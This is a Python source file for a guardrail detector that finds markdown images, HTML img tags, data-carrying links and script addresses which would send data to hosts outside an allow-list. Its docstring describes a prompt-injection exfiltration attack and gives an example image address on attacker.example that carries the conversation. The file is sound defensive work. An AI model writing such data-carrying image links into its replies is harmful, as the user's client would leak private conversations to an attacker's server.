"""The ``links`` detector (docs/guardrails.md): an address in a text that a client would
send data to by rendering it — the classic exfiltration, where an injected instruction
has the model write ``![](https://attacker.example/p?q=<the conversation>)`` and the
user's own client fetches it.

- ``markdown_image``: a markdown image (inline, or by reference) or an HTML ``<img>`` whose
  address is on a host outside the guardrail's ``hosts``: a client fetches it unasked, so
  any address carries data (its path too);
- ``data_link``: a markdown link to a host outside ``hosts`` whose query or fragment is
  40 characters or more, or a path segment 64 or more: a click sends it;
- ``script_link``: a link or image to a ``javascript:``, ``vbscript:`` or HTML ``data:``
  address.

A bare address is not looked at (a renderer may link it, but never fetches it). The span
found is the address, so a redaction leaves the image or link with nothing to fetch.
"""

from __future__ import annotations

import fnmatch
from collections.abc import Iterable, Iterator
from urllib.parse import urlsplit

import re2

from tool_registry import immutable

_SCHEME = r"(?:[a-zA-Z][a-zA-Z0-9+.-]{0,20}:|//)"
_ADDRESS = rf"({_SCHEME}[^\s)>]+)"  # in markdown's parentheses
_IMAGE = re2.compile(r"!\[[^\]\n]{0,512}\]\([ \t]*<?" + _ADDRESS)
_HTML_IMAGE = re2.compile(rf"(?i)<img\b[^>]{{0,512}}?\bsrc[ \t]*=[ \t]*[\"']?({_SCHEME}[^\s\"'>]+)")
_LINK = re2.compile(r"\[[^\]\n]{0,512}\]\([ \t]*<?" + _ADDRESS)
_REFERENCE = re2.compile(r"(?m)^[ \t]{0,3}\[([^\]\n]{1,512})\]:[ \t]*<?" + _ADDRESS)
_ANY_IMG = re2.compile(r"(?i)<img")  # without a lower-cased copy of the text
_IMAGE_REFERENCE = re2.compile(r"!\[[^\]\n]{0,512}\]\[([^\]\n]{1,512})\]")
_SCRIPTS = ("javascript:", "vbscript:", "data:text/html", "data:application/")
DATA_CHARS = 40  # a query or fragment this long carries data
SEGMENT_CHARS = 64  # and a path segment this long


@immutable
class Found:
    """One address found: its label and where it is."""

    label: str
    start: int
    end: int


def found_links(text: str, hosts: Iterable[str]) -> Iterator[Found]:
    """The addresses in ``text`` that would carry data outside ``hosts`` (globs on host
    names: ``docs.example.com``, ``*.example.com``)."""
    if "](" not in text and "]:" not in text and _ANY_IMG.search(text) is None:
        return
    allowed = tuple(h.lower() for h in hosts)
    images = {m.group(1).strip().lower() for m in _IMAGE_REFERENCE.finditer(text)}
    for pattern, image in ((_IMAGE, True), (_HTML_IMAGE, True), (_LINK, False)):
        for match in pattern.finditer(text):
            if not image and match.start() > 0 and text[match.start() - 1] == "!":
                continue  # the image's own brackets
            label = _judged(match.group(1), image, allowed)
            if label is not None:
                yield Found(label, *match.span(1))
    for match in _REFERENCE.finditer(text):
        image = match.group(1).strip().lower() in images
        label = _judged(match.group(2), image, allowed)
        if label is not None:
            yield Found(label, *match.span(2))


def _judged(address: str, image: bool, allowed: tuple[str, ...]) -> str | None:
    lowered = address.lower()
    if lowered.startswith(_SCRIPTS):
        return "script_link"
    if lowered.startswith("data:") or lowered.startswith(("mailto:", "tel:")):
        return None  # an inline image's own bytes, or a client's own app: nothing sent
    try:
        parts = urlsplit(address)
        host = (parts.hostname or "").rstrip(".")
    except ValueError:
        return "markdown_image" if image else None
    if host and any(fnmatch.fnmatchcase(host, glob) for glob in allowed):
        return None
    if image:
        return "markdown_image"
    carried = max(len(parts.query), len(parts.fragment))
    longest = max((len(s) for s in parts.path.split("/")), default=0)
    return "data_link" if carried >= DATA_CHARS or longest >= SEGMENT_CHARS else None
